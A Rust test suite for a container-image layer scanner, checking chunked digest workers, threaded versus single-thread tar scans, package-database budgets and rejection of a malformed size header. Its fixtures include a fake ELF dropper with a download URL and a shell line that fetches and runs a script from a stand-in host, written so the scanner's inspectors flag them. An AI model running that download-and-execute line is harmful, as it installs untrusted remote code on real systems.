//! The ranged digests against digests of the same bytes computed directly:
//! jobs across, at and inside chunk boundaries, a package worker that skips
//! chunks, and a whole layer scanned by the threaded pass against the same
//! tar walked on one thread.

use std::io::Read;
use std::rc::Rc;
use std::sync::atomic::AtomicU64;
use std::sync::mpsc::sync_channel;

use md5::Digest as _;

use super::*;
use crate::fixture::{LayerBuilder, compress};
use crate::layer::stream::CHUNK;
use crate::layer::{
    Compression, ContentKind, LayerIndex, LayerInput, WalkContext, scan_layer, walk_tar,
};
use crate::limits::Limits;

fn data(n: usize) -> Vec<u8> {
    (0..n).map(|i| (i * 7 % 253) as u8).collect()
}

fn md5_sha1(b: &[u8]) -> ([u8; 16], [u8; 20]) {
    (md5::Md5::digest(b).into(), sha1::Sha1::digest(b).into())
}

/// Feed `stream` to a worker in chunks of `sizes` (cycled), with each
/// job sent in the batch of the chunk its start falls in (or an earlier one).
fn run<D: RangeDigest>(
    stream: &[u8],
    sizes: &[usize],
    jobs: &[Job],
    whole: bool,
) -> Digested<D::Out>
where
    D::Out: Send + 'static,
{
    run_with(stream, sizes, jobs, move |rx| work::<D>(rx, whole))
}

/// [`run`] with any worker function.
fn run_with<T: Send + 'static>(
    stream: &[u8],
    sizes: &[usize],
    jobs: &[Job],
    worker: impl FnOnce(std::sync::mpsc::Receiver<Batch>) -> Digested<T> + Send + 'static,
) -> Digested<T> {
    let (tx, rx) = sync_channel(2);
    let worker = std::thread::spawn(move || worker(rx));
    let (mut start, mut k, mut next) = (0usize, 0usize, 0usize);
    while start < stream.len() {
        let end = (start + sizes[k % sizes.len()]).min(stream.len());
        k += 1;
        let mut batch = Vec::new();
        while next < jobs.len() && jobs[next].start as usize <= end {
            batch.push(jobs[next]);
            next += 1;
        }
        tx.send(Batch {
            jobs: batch,
            start: start as u64,
            chunk: Arc::new(stream[start..end].to_vec()),
        })
        .unwrap();
        start = end;
    }
    drop(tx);
    worker.join().unwrap()
}

fn jobs_of(ranges: &[(u64, u64)]) -> Vec<Job> {
    (ranges.iter().enumerate())
        .map(|(slot, &(start, len))| Job {
            slot,
            start,
            len,
            pkg: PkgDigests::BOTH,
        })
        .collect()
}

#[test]
fn ranges_across_inside_and_at_chunk_boundaries() {
    let stream = data(10_000);
    // Chunks of 1000, 1, 2999, 1000…: jobs inside one chunk, spanning
    // several, starting and ending exactly on boundaries, one byte long.
    let ranges = [
        (0, 10),
        (10, 990),
        (1000, 1),
        (1001, 5000),
        (6001, 1),
        (6500, 3500),
    ];
    let jobs = jobs_of(&ranges);
    for sizes in [&[1000, 1, 2999][..], &[10_000], &[7], &[4096, 512]] {
        let got = run::<Hasher>(&stream, sizes, &jobs, true);
        assert_eq!(got.whole, Some((Sha256::of(&stream), 10_000)), "{sizes:?}");
        let want: Vec<(usize, Sha256)> = (ranges.iter().enumerate())
            .map(|(i, &(s, l))| (i, Sha256::of(&stream[s as usize..(s + l) as usize])))
            .collect();
        assert_eq!(got.files, want, "{sizes:?}");
        let got = run::<Pair>(&stream, sizes, &jobs, false);
        assert!(got.whole.is_none());
        for (i, &(s, l)) in ranges.iter().enumerate() {
            let (md5, sha1) = md5_sha1(&stream[s as usize..(s + l) as usize]);
            assert_eq!(got.files[i], (i, (md5, sha1, PkgDigests::BOTH)));
        }
        // Each job gets the digests its layer's plan chose, no others.
        let plans = [(true, false), (false, true), (false, false)];
        let planned: Vec<Job> = (jobs.iter().enumerate())
            .map(|(i, j)| {
                let (md5, sha1) = plans[i % plans.len()];
                Job {
                    pkg: PkgDigests { md5, sha1 },
                    ..*j
                }
            })
            .collect();
        let got = run::<Pair>(&stream, sizes, &planned, false);
        for (i, &(s, l)) in ranges.iter().enumerate() {
            let (md5, sha1) = md5_sha1(&stream[s as usize..(s + l) as usize]);
            let which = planned[i].pkg;
            let want = (
                if which.md5 { md5 } else { [0; 16] },
                if which.sha1 { sha1 } else { [0; 20] },
                which,
            );
            assert_eq!(got.files[i], (i, want), "{sizes:?}");
        }
    }
}

/// The SHA-extension sha256 worker and the lane package worker give what
/// the plain workers give: jobs at tar offsets (512-aligned, where the
/// two digests share blocks) and at odd ones, over chunkings that cut
/// blocks anywhere.
#[test]
fn the_fast_workers_answer_as_the_plain_ones() {
    let stream = data(300_000);
    let ranges = [
        (512, 100),
        (1024, 64),
        (1536, 4096),
        (6144, 70_000),
        (76_288, 1),
        (76_800, 200_000),
        (276_900, 13),
        (280_000, 19_999),
        // Ends exactly where the stream does.
        (299_999, 1),
    ];
    let md5_only = PkgDigests {
        md5: true,
        sha1: false,
    };
    let jobs: Vec<Job> = (jobs_of(&ranges).into_iter())
        .enumerate()
        .map(|(i, j)| Job {
            pkg: if i % 3 == 2 {
                PkgDigests::BOTH
            } else {
                md5_only
            },
            ..j
        })
        .collect();
    for sizes in [
        &[65_536][..],
        &[1000, 1, 2999],
        &[7],
        &[4096, 512],
        &[300_000],
    ] {
        let plain = run::<Hasher>(&stream, sizes, &jobs, true);
        let fast = run_with(&stream, sizes, &jobs, work_sha);
        assert_eq!(fast.whole, plain.whole, "{sizes:?}");
        assert_eq!(fast.files, plain.files, "{sizes:?}");
        assert_eq!(fast.files.len(), ranges.len());
        let mut plain = run::<Pair>(&stream, sizes, &jobs, false).files;
        let mut fast = run_with(&stream, sizes, &jobs, work_pkg).files;
        plain.sort_by_key(|f| f.0);
        fast.sort_by_key(|f| f.0);
        assert_eq!(fast, plain, "{sizes:?}");
        assert_eq!(fast.len(), ranges.len());
    }
}

#[test]
fn a_stream_that_ends_inside_a_job_leaves_it_unanswered() {
    let stream = data(3000);
    let jobs = jobs_of(&[(0, 100), (2900, 500)]);
    let got = run::<Hasher>(&stream, &[1000], &jobs, true);
    assert_eq!(got.files.len(), 1, "the second job never completes");
}

/// The chunk reader hands each chunk on after the parser read past it,
/// with the jobs queued before; the package and inspection workers only
/// get the chunks their jobs need (not the one that starts where the
/// last job ends).
#[test]
fn the_reader_hands_chunks_on_after_their_jobs() {
    let (tx, rx) = sync_channel(8);
    let (sha_tx, sha_rx) = sync_channel(64);
    let (pkg_tx, pkg_rx) = sync_channel(64);
    let (insp_tx, insp_rx) = sync_channel(64);
    let (insp2_tx, insp2_rx) = sync_channel(64);
    for c in [data(100), data(100), data(100), data(100)] {
        tx.send(Arc::new(c)).unwrap();
    }
    drop(tx);
    let tap = Rc::new(Tap::default());
    let mut r = TapReader::new(
        rx,
        tap.clone(),
        Outlets {
            sha: sha_tx,
            pkg: pkg_tx,
            insp: [insp_tx, insp2_tx],
        },
    );
    let mut buf = [0u8; 30];
    r.read_exact(&mut buf).unwrap();
    assert_eq!(tap.pos(), 30);
    tap.queue(
        Job {
            slot: 0,
            start: 30,
            len: 170, // ends where the third chunk starts
            pkg: PkgDigests::BOTH,
        },
        true,
        ImagePath::new("bin/x"),
    );
    let mut rest = Vec::new();
    r.read_to_end(&mut rest).unwrap();
    assert_eq!(tap.pos(), 400);
    assert_eq!(tap.queued(), (1, 1));
    let sha: Vec<Batch> = sha_rx.iter().collect();
    let pkg: Vec<Batch> = pkg_rx.iter().collect();
    assert_eq!(
        sha.iter().map(|b| b.start).collect::<Vec<_>>(),
        [0, 100, 200, 300]
    );
    assert_eq!(
        sha[0].jobs.len(),
        1,
        "the job comes with the chunk it starts in"
    );
    assert_eq!(pkg.iter().map(|b| b.start).collect::<Vec<_>>(), [0, 100]);
    let insp: Vec<Batch<InspectJob>> = insp_rx.iter().collect();
    assert_eq!(insp.iter().map(|b| b.start).collect::<Vec<_>>(), [0, 100]);
    assert_eq!(insp[0].jobs[0].path, ImagePath::new("bin/x"));
    assert_eq!(insp2_rx.iter().count(), 0, "the other inspector has no job");
}

fn walk_inline(tar: &[u8]) -> LayerIndex {
    let limits = Limits::default();
    let (bytes, entries) = (AtomicU64::new(0), AtomicU64::new(0));
    let ctx = WalkContext {
        location: "layer 0".into(),
        limits: &limits,
        image_bytes: &bytes,
        image_entries: &entries,
    };
    let mut index = LayerIndex::default();
    assert!(walk_tar(tar, &ctx, &mut index).is_ok());
    index
}

fn scan(tar: &[u8]) -> LayerIndex {
    scan_with(tar, &Limits::default())
}

fn scan_with(tar: &[u8], limits: &Limits) -> LayerIndex {
    let (bytes, entries) = (AtomicU64::new(0), AtomicU64::new(0));
    let blob = compress(tar, Compression::Gzip);
    let input = LayerInput {
        index: 0,
        digest: None,
        size: None,
        media_type: None,
        diff_id: Some(Sha256::of(tar)),
        limits,
        image_bytes: &bytes,
        image_entries: &entries,
    };
    scan_layer(Box::new(std::io::Cursor::new(blob)), &input).expect("scan")
}

/// A binary-looking file of `n` bytes that names a download library, its
/// API and a URL (the strings straddle the pass's chunks).
fn dropper(n: usize) -> Vec<u8> {
    let mut b = b"\x7fELF\x02\x01\x01\0".to_vec();
    let strings: &[u8] = b"\0libcurl.so.4\0curl_easy_perform\0http://203.0.113.9/x.bin\0";
    while b.len() < n {
        b.extend_from_slice(&data(977));
        b.extend_from_slice(strings);
    }
    b.truncate(n);
    b
}

/// Where the data of the entry at `path` starts in `tar`.
fn data_offset(tar: &[u8], path: &str) -> usize {
    let mut archive = tar::Archive::new(tar);
    let entry = (archive.entries().unwrap().map(Result::unwrap))
        .find(|e| e.path().unwrap().ends_with(path))
        .unwrap();
    entry.raw_file_position() as usize
}

/// Every entry (digests, package digests, content kind, inspection facts)
/// is what the one-thread walk records, for files inside, across and at
/// the edges of the chunks, empty and sparse files, hardlinks (to a
/// pending file, to a hardlink), binaries and scripts the inspectors
/// read, database files and files where package managers keep their state.
#[test]
fn the_threaded_scan_records_what_one_thread_does() {
    let big = data(700_000);
    let long = data(3 * CHUNK);
    let bin = dropper(300_000);
    let script = b"#!/bin/sh\ncurl -fsSL http://203.0.113.9/i.sh -o /tmp/i.sh && sh /tmp/i.sh\n";
    let status = b"Package: x\nStatus: install ok installed\n";
    let layout = |edge: &[u8]| {
        LayerBuilder::new()
            .file("usr/bin/a", b"#!/bin/sh\necho a\n", 0o755)
            .file("usr/local/bin/fetch", &bin, 0o755)
            .hardlink("usr/local/bin/fetch2", "usr/local/bin/fetch")
            .file("opt/get.sh", script, 0o755)
            .hardlink("opt/get-link.sh", "opt/get.sh")
            .file("usr/share/empty", b"", 0o644)
            .file("usr/lib/big.so", &big, 0o644)
            .hardlink("usr/lib/big-link.so", "usr/lib/big.so")
            .hardlink("usr/lib/link-of-link.so", "usr/lib/big-link.so")
            .file("usr/lib/edge", edge, 0o644)
            .sparse("var/sparse", &[b'a'; 512], 4096)
            .file("var/lib/dpkg/status", status, 0o644)
            .file("var/cache/apt/archives/x.deb", &big[..300_000], 0o644)
            .file("var/lib/apt/lists/Packages", b"Package: x\n", 0o644)
            .file("etc/after", b"ok", 0o644)
            .tar_bytes()
    };
    // `edge` ends exactly where a chunk of the pass does, a chunk or more
    // after it starts.
    let start = data_offset(&layout(b""), "usr/lib/edge");
    let edge_len = (start / CHUNK + 2) * CHUNK - start;
    let tar = layout(&long[..edge_len]);
    assert_eq!((start + edge_len) % CHUNK, 0);
    let one = walk_inline(&tar);
    let four = scan(&tar);
    assert_eq!(four.diff_id, Some(Sha256::of(&tar)));
    let big_one = one
        .entries
        .iter()
        .find(|e| e.path.display() == "/usr/lib/big.so")
        .unwrap();
    assert_eq!(big_one.sha256, Some(Sha256::of(&big)), "inline");
    assert_eq!(one.entries.len(), four.entries.len());
    for (a, b) in one.entries.iter().zip(&four.entries) {
        assert_eq!(a, b, "{}", a.path);
    }
    assert_eq!(one.findings.len(), four.findings.len());
    let by = |p: &str| four.entries.iter().find(|e| e.path.display() == p).unwrap();
    for p in ["/usr/local/bin/fetch2", "/opt/get-link.sh"] {
        let facts = by(p).facts.clone();
        assert!(facts.is_some_and(|f| f.is_notable()), "{p}: inspected");
    }
    assert_eq!(by("/usr/local/bin/fetch2").content, ContentKind::Elf);
    assert_eq!(by("/opt/get-link.sh").size, script.len() as u64);
    assert_eq!(by("/usr/lib/big.so").sha256, Some(Sha256::of(&big)));
    let pkg = by("/usr/lib/link-of-link.so").pkg.clone().unwrap();
    assert_eq!((pkg.md5, pkg.sha1), md5_sha1(&big));
    assert!(!pkg.unhashed);
    let status_pkg = by("/var/lib/dpkg/status").pkg.clone().unwrap();
    assert!(status_pkg.unhashed, "dpkg's own database is not hashed");
    assert_eq!(
        status_pkg.db.as_deref().map(|d| d.as_slice()),
        Some(&status[..])
    );
    let deb = by("/var/cache/apt/archives/x.deb");
    assert_eq!(deb.sha256, Some(Sha256::of(&big[..300_000])));
    assert!(deb.pkg.is_none(), "no package digests in apt's cache");
    let empty = by("/usr/share/empty").pkg.clone().unwrap();
    assert_eq!((empty.md5, empty.sha1), md5_sha1(b""));
    // Past dpkg's database the layer's plan drops SHA-1 (both walks alike).
    assert!(!pkg.no_md5 && !pkg.no_sha1, "both before any evidence");
    let after = by("/etc/after").pkg.clone().unwrap();
    assert!(
        after.no_sha1 && !after.no_md5,
        "MD5 only after dpkg's database"
    );
    assert_eq!((after.md5, after.sha1), (md5_sha1(b"ok").0, [0; 20]));
}

/// A header whose size field (base-256) claims almost 2^64 bytes: the
/// digest workers get a job whose end does not fit in a u64. The scan
/// must fail with an error, not panic (nor wrap around into a digest).
#[test]
fn a_file_claiming_an_impossible_size_is_an_error_not_a_panic() {
    for claimed in [u64::MAX, u64::MAX - 700, 1 << 63] {
        let mut tar = LayerBuilder::new()
            .file("usr/bin/a", b"0123456789", 0o755)
            .tar_bytes();
        let h = &mut tar[..512];
        h[124] = 0x80;
        h[125..128].fill(0);
        h[128..136].copy_from_slice(&claimed.to_be_bytes());
        h[148..156].fill(b' ');
        let sum: u32 = h.iter().map(|&b| u32::from(b)).sum();
        h[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        let limits = Limits::default();
        let (bytes, entries) = (AtomicU64::new(0), AtomicU64::new(0));
        let input = LayerInput {
            index: 0,
            digest: None,
            size: None,
            media_type: None,
            diff_id: None,
            limits: &limits,
            image_bytes: &bytes,
            image_entries: &entries,
        };
        let blob = compress(&tar, Compression::Gzip);
        let got = scan_layer(Box::new(std::io::Cursor::new(blob)), &input);
        let err = got
            .map(|i| i.entries.len())
            .expect_err("an impossible size is an error");
        eprintln!("size {claimed}: {err}");
    }
}

/// The package database budget keeps the databases the layer lists first,
/// as a one-thread walk does, though the inspection workers share the
/// files out (here the first and third go to one worker, the second to
/// the other, which answers after it).
#[test]
fn the_database_budget_goes_by_layer_order_across_inspectors() {
    let info = |n: usize| format!("/usr/bin/tool{n}\n").repeat(n).into_bytes();
    let (a, b, c) = (info(10), info(15), info(6));
    let tar = LayerBuilder::new()
        .file("var/lib/dpkg/info/a.list", &a, 0o644)
        .file("var/lib/dpkg/info/b.list", &b, 0o644)
        .file("var/lib/dpkg/info/c.list", &c, 0o644)
        .tar_bytes();
    let limits = Limits {
        max_package_db: (a.len() + b.len() + c.len() - 1) as u64,
        ..Limits::default()
    };
    let index = scan_with(&tar, &limits);
    let kept: Vec<bool> = (index.entries.iter())
        .map(|e| e.pkg.as_ref().is_some_and(|p| p.db.is_some()))
        .collect();
    assert_eq!(kept, [true, true, false], "the last one is over the budget");
}
